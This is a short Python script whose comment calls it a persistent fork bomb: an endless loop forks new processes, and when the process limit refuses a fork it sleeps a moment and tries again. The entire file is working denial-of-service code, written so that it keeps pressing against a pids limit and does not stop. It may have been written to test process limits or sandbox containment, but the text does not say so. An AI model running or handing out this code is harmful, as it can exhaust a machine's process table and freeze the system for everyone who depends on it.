# A persistent fork bomb: every process keeps forking and retries when the pids limit refuses it.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
